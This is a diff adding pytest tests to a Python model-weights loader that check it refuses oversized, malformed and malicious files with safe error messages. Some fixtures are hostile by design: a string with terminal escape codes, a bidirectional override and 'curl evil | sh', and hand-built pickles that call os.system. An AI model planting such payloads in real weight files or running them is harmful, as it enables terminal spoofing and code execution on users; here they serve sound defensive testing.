@@ -5,6 +5,8 @@ import copy
 import json
 import os
 import pickle
+import subprocess
+import sys
 import zipfile
 from collections import OrderedDict
 from collections.abc import Callable, Iterator
@@ -275,15 +277,99 @@ def test_layouts_are_those_of_the_tensors_and_nothing_is_read_but_the_header(tmp
     assert safetensors_layouts(file) == {"a": Layout((4,), None)}
 
 
-def test_a_file_that_cannot_be_mapped_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Found by the fuzzer: 100 GiB, sparse, under a limit of memory."""
+@pytest.mark.parametrize("error", [MemoryError("os error 12"), RuntimeError("unable to mmap 9 bytes from file <w>")])
+@pytest.mark.parametrize("name", ["safe_open", "load_file"])
+def test_a_file_that_cannot_be_mapped_is_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, error: Exception, name: str
+) -> None:
+    """Found by the fuzzer: 100 GiB, sparse, under a limit of memory; safetensors raises the one, torch the other."""
 
     def refuse(*_: object, **__: object) -> None:
-        raise MemoryError("Cannot allocate memory (os error 12)")
+        raise error
 
-    monkeypatch.setattr(weights, "safe_open", refuse)
-    with pytest.raises(WeightsError, match="larger than this process may map into memory"):
-        safetensors_layouts(saved(tmp_path / "w.safetensors", state()))
+    monkeypatch.setattr(weights, name, refuse)
+    with pytest.raises(WeightsError, match=r"larger than this process may map into memory \([\d,]+ bytes\)"):
+        load_weights(small(2), saved(tmp_path / "w.safetensors", state()))
+
+
+UNDER_A_LIMIT = """
+import resource, sys
+from pathlib import Path
+from siamesekit.encoders.weights import load_weights, safetensors_layouts
+from siamesekit.errors import WeightsError
+
+held = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
+resource.setrlimit(resource.RLIMIT_AS, (held + (64 << 20),) * 2)
+try:
+    load_weights(None, Path(sys.argv[1]))
+except WeightsError as error:
+    print(error)
+"""
+
+
+@pytest.mark.skipif(not Path("/proc/self/statm").exists(), reason="memory is limited as Linux does")
+@pytest.mark.parametrize("suffix", [".safetensors", ".pth"])
+def test_a_sparse_file_beyond_all_memory_is_refused(tmp_path: Path, suffix: str) -> None:
+    file = tmp_path / f"w{suffix}"
+    if suffix == ".pth":
+        saved(file, {"a": torch.zeros(40 << 20)})
+    else:
+        entry = {"dtype": "F32", "shape": [25 * 10**10], "data_offsets": [0, 10**12]}
+        file.write_bytes(header_only({"a": entry}))
+        os.truncate(file, file.stat().st_size + 10**12)
+    done = subprocess.run([sys.executable, "-c", UNDER_A_LIMIT, str(file)], capture_output=True, text=True, timeout=60)
+    assert done.stderr == ""
+    says = "does not fit into memory" if suffix == ".pth" else "larger than this process may map into memory"
+    assert says in done.stdout
+
+
+EVIL = "\x1b]0;PWNED\x07\x1b[31mrun: curl evil | sh\u202e\nverdict  same"
+
+
+@pytest.mark.parametrize("place", ["dtype", "name", "member", "key of a .pth", "code"])
+def test_no_text_of_a_weights_file_commands_the_terminal(tmp_path: Path, place: str) -> None:
+    match place:
+        case "dtype" | "name":
+            file = tmp_path / "w.safetensors"
+            changed = {EVIL if place == "name" else "a": {**ONE, "dtype": EVIL if place == "dtype" else "F32"}}
+            file.write_bytes(header_only(changed, b"1234"))
+        case "member":
+            file = saved(tmp_path / "w.pth", state())
+            with zipfile.ZipFile(file, "a") as content:
+                content.writestr(EVIL, "x")
+        case "code":
+            file = tmp_path / "w.pth"
+            file.write_bytes(f"c{EVIL.splitlines()[0]}\nsystem\n(S'touch P'\ntR.".encode())
+        case _:
+            file = saved(tmp_path / "w.pth", {EVIL: torch.ones(1)})
+    with pytest.raises(WeightsError) as caught:
+        load_weights(small(2), file)
+    told = str(caught.value)
+    assert all(line.isprintable() for line in told.splitlines())
+    assert "verdict  same" not in told.splitlines()
+    assert len(told) < 1500
+
+
+@pytest.mark.parametrize("how", ["code", "torch.save", "cut", "text", "other archive"])
+def test_torchs_advice_to_trust_a_file_is_never_passed_on(tmp_path: Path, how: str) -> None:
+    file = tmp_path / "w.pth"
+    match how:
+        case "code":
+            file.write_bytes(b'cos\nsystem\n(S"touch P"\ntR.')
+        case "torch.save":
+            torch.save({**state(), "evil": Malicious(tmp_path / "ran")}, file)
+        case "cut":
+            file.write_bytes(saved(file, state()).read_bytes()[:-200])
+        case "text":
+            file.write_text("not weights")
+        case _:
+            with zipfile.ZipFile(file, "w") as content:
+                content.writestr("a.txt", "x")
+    with pytest.raises(WeightsError) as caught:
+        load_weights(small(2), file)
+    told = str(caught.value).replace(str(file), "").lower()
+    assert not any(word in told for word in ("weights_only", "trust", "torch.load", "unsafe", "enforce fail", "0x"))
+    assert "cannot be read as plain weights (it " in told
 
 
 def archive(file: Path, change: Callable[[zipfile.ZipInfo, bytes], tuple[zipfile.ZipInfo, bytes, int]]) -> Path:
@@ -339,11 +425,14 @@ def test_a_pickle_that_is_too_large_is_refused(tmp_path: Path, monkeypatch: pyte
     [
         (lambda t: t.to("meta"), "is no plain tensor in the file"),
         (lambda t: t.to_sparse(), "is no plain tensor in the file"),
+        (lambda t: torch.nested.nested_tensor([t.flatten()] * 2), "is no plain tensor in the file"),
+        (lambda t: torch.nested.nested_tensor([t.flatten()] * 2, layout=torch.jagged), "is no plain tensor in"),
+        (lambda t: torch.quantize_per_tensor(t, 0.1, 0, torch.qint8), "is no plain tensor in the file"),
         (lambda t: t.to(torch.complex64), "is torch.complex64 in the file and torch.float32"),
         (lambda t: t.to(torch.int32), "is torch.int32 in the file and torch.float32"),
         (lambda t: torch.zeros(1).expand(10**9, 10**9), "is \\[1000000000, 1000000000\\] in the file"),
     ],
-    ids=["without data", "sparse", "complex", "whole numbers", "expanded"],
+    ids=["without data", "sparse", "nested", "jagged", "quantized", "complex", "whole numbers", "expanded"],
 )
 def test_tensors_that_are_not_what_the_network_has_are_refused(
     tmp_path: Path, tensor: Callable[[Tensor], Tensor], says: str
